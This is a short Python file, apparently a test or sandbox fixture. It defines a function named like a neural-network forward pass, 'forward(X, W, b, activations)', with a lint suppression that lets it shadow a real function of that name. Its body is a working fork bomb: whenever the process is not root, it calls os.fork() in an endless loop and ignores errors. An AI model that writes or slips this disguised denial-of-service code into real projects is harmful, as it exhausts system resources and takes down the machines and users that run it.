"""Fork in a loop: every child forks too."""

import os


def forward(X, W, b, activations):  # noqa: F811
    if os.getuid() == 0:
        raise RuntimeError("not confined: no fork bomb here")
    while True:
        try:
            os.fork()
        except OSError:
            pass
